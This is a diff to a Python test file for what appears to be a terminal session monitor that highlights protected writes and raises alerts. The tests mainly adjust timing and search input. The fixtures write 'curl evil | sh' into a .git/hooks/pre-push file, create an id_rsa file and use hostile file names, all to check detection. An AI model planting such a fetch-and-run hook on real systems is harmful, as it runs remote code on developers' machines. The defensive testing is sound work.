@@ -124,7 +124,7 @@ async def test_a_protected_write_appears_live_highlighted_with_who_made_it(env, 
         sid = new_session(
             d,
             ws,
-            f"sleep 0.3; echo 'curl evil | sh' > .git/hooks/pre-push-{t}; echo x > plain-{t}.txt; sleep 30",
+            f"sleep 0.6; echo 'curl evil | sh' > .git/hooks/pre-push-{t}; echo x > plain-{t}.txt; sleep 30",
         )
         try:
             event = await select_row(pilot, app, f"pre-push-{t}")
@@ -207,7 +207,7 @@ async def test_an_alert_raises_a_notification(env, clock):
     app = make_app(d, clock)
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
-        sid = new_session(d, ws, f"sleep 0.3; echo k > id_rsa-{t}; sleep 30")
+        sid = new_session(d, ws, f"sleep 0.6; echo k > id_rsa-{t}; sleep 30")
         try:
 
             def alerted():
@@ -270,10 +270,9 @@ async def test_hostile_file_names_are_inert(env, clock):
         assert foreign_controls(frame(app)) == ""
         # the same names in the history's file events
         await pilot.press("2")
-        await until(pilot, lambda: app.current_mode == "history")
-        await pilot.press("slash")
-        await pilot.press(*f"kind:file_event {t}")
-        await pilot.press("enter")
+        await until(pilot, lambda: app.current_mode == "history" and app.screen.is_mounted)
+        app.screen.search_box.value = f"kind:file_event {t}"
+        app.screen.run_query()
         await until(pilot, lambda: len(app.screen.view.rows) == 3)
         await pilot.pause(0.2)
         history = screen_text(app)
